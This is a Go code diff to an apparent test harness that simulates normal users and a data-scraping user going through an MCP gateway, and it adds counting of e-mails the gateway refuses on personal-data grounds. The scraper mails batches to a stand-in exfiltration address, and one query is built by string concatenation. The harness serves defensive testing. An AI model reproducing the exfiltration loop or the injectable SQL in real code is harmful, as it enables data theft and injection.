@@ -25,6 +25,10 @@ type Report struct {
 	FirstRefusal time.Time
 	// RefusalError is the error text the scraper's client got.
 	RefusalError string
+	// PolicyDenied counts the scraper's e-mails refused by policy (personal data in them), and
+	// PolicyError is what its client was told.
+	PolicyDenied int
+	PolicyError  string
 }
 
 // Connect opens an MCP client session through the gateway with the user's token.
@@ -50,7 +54,8 @@ func Normal(ctx context.Context, endpoint string, u User, calls int, gap time.Du
 		return fmt.Errorf("%s: tools/list: %w", u.Name, err)
 	}
 	for i := range calls {
-		p := &sdk.CallToolParams{Name: "db_query", Arguments: QueryArgs{SQL: "SELECT region, revenue FROM sales"}}
+		// The owner's e-mail address is personal data: the gateway masks it before auditing.
+		p := &sdk.CallToolParams{Name: "db_query", Arguments: QueryArgs{SQL: "SELECT region, revenue FROM sales WHERE owner = '" + u.Name + "@acme.example'"}}
 		if i%3 == 1 {
 			p = &sdk.CallToolParams{Name: "file_read", Arguments: ReadArgs{Path: "/reports/q3.pdf"}}
 		}
@@ -85,6 +90,14 @@ func Scraper(ctx context.Context, endpoint string, u User, max int, r *Report, m
 			p = &sdk.CallToolParams{Name: "send_email", Arguments: MailArgs{To: "drop@exfil.example", Body: "batch " + fmt.Sprint(i)}}
 		}
 		_, err := s.CallTool(ctx, p)
+		if err != nil && p.Name == "send_email" {
+			// Refused by policy (the recipient is personal data), not revoked: keep scraping.
+			mu.Lock()
+			r.PolicyDenied++
+			r.PolicyError = err.Error()
+			mu.Unlock()
+			continue
+		}
 		if err != nil {
 			mu.Lock()
 			r.Refused[u.Name]++
